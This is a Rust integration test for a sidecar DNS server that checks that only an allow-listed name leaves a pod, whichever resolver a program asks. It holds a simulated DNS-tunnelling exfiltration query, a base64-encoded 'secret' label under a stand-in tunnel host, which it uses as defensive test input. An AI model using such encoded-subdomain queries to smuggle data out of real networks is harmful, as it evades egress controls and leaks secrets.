//! DNS as a way out, tried by a real program in a real network namespace: whatever resolver it
//! asks, the sidecar answers, and the cluster's name server hears of permitted names only.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

#[path = "../../crates/redirect/tests/support/mod.rs"]
mod support;

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::mpsc;

use hickory_proto::op::Message;
use hickory_proto::rr::{RData, Record};
use support::wire::Wire;
use support::{PEER_V4, Pod, SIDECAR, become_sidecar};
use writ_redirect::Redirect;
use writ_sidecar::dns::{Limits, RefusalSink, RefusedQuery, Resolver, Server, Settings};

/// The cluster's name server, at the peer: everything is 192.0.2.7. It tells what it is asked.
fn start_name_server(pod: &Pod) -> mpsc::Receiver<String> {
    let socket = pod.peer.enter(|| UdpSocket::bind((PEER_V4, 53)).unwrap());
    let (asked, names) = mpsc::channel();
    pod.peer.spawn(move || {
        let mut buffer = [0; 1500];
        while let Ok((length, client)) = socket.recv_from(&mut buffer) {
            let query = Message::from_vec(&buffer[..length]).unwrap();
            let name = query.queries[0].name.clone();
            let _ = asked.send(name.to_lowercase().to_ascii());
            let mut answer = Message::response(query.metadata.id, query.metadata.op_code);
            answer.add_query(query.queries[0].clone());
            let data = RData::A(Ipv4Addr::new(192, 0, 2, 7).into());
            answer.add_answer(Record::from_rdata(name, 60, data));
            socket.send_to(&answer.to_vec().unwrap(), client).unwrap();
        }
    });
    names
}

struct Sink(mpsc::Sender<RefusedQuery>);

impl RefusalSink for Sink {
    fn refused(&self, query: RefusedQuery) {
        let _ = self.0.send(query);
    }
}

/// The DNS server as it runs in a pod, knowing one name. Returns what it refuses.
fn start_dns(pod: &Pod) -> mpsc::Receiver<RefusedQuery> {
    let (sink, refused) = mpsc::channel();
    let (ready, wait) = mpsc::channel();
    pod.pod.spawn(move || {
        become_sidecar();
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async {
            let nameserver = SocketAddr::new(PEER_V4.parse().unwrap(), 53);
            let resolver = Arc::new(Resolver::new(Settings::new(vec![nameserver])).unwrap());
            let addresses = ["127.0.0.1:15853", "[::1]:15853"].map(|a| a.parse().unwrap());
            let names = Arc::new(|name: &str| name == "payments.example");
            let server = Server::bind(
                &addresses,
                names,
                resolver,
                Arc::new(Sink(sink)),
                Limits::default(),
            )
            .await
            .unwrap();
            ready.send(()).unwrap();
            server.run().await;
        });
    });
    wait.recv().unwrap();
    refused
}

/// Asks each resolver for each name over UDP and TCP, and prints code and last octets.
const ASK: &str = r"
def question(name, kind):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('!HH', kind, 1)
def ask(resolver, name, kind=1):
    message = question(name, kind)
    with socket.socket(family(resolver), socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((resolver, 53))
        s.send(message)
        udp = s.recv(1500)
    with socket.socket(family(resolver), socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((resolver, 53))
        s.sendall(struct.pack('!H', len(message)) + message)
        tcp = s.recv(1500)[2:]
    assert udp[3] == tcp[3]
    print(udp[3] & 15, '.'.join(str(b) for b in udp[-4:]) if udp[7] else '-')
";

#[test]
fn only_permitted_names_leave_the_pod_whatever_resolver_is_asked() {
    let pod = Pod::new();
    pod.apply(&Redirect::new(SIDECAR).unwrap());
    let asked = start_name_server(&pod);
    let refused = start_dns(&pod);
    let wire = Wire::watch(&pod);
    let resolvers = [PEER_V4, "8.8.8.8", "2001:4860:4860::8888"];
    let script = format!(
        "{ASK}\nfor resolver in {resolvers:?}:\n    ask(resolver, 'payments.example')\n    ask(resolver, 'c2VjcmV0.tunnel.example')\n    ask(resolver, 'payments.example', 16)"
    );
    let printed = pod.agent(&script);
    assert_eq!(
        printed.lines().collect::<Vec<_>>(),
        ["0 192.0.2.7", "3 -", "5 -"].repeat(3)
    );

    assert_eq!(
        asked.try_iter().collect::<Vec<_>>(),
        ["payments.example."],
        "asked once, then remembered"
    );
    assert_eq!(wire.sent(), [format!("IPv4 protocol 17 to {PEER_V4}")]);
    let names: Vec<String> = refused.try_iter().map(|r| r.query.name).collect();
    assert_eq!(
        names.len(),
        12,
        "two refusals for each resolver, over UDP and TCP"
    );
    assert!(names.contains(&"c2vjcmv0.tunnel.example".to_owned()));
}
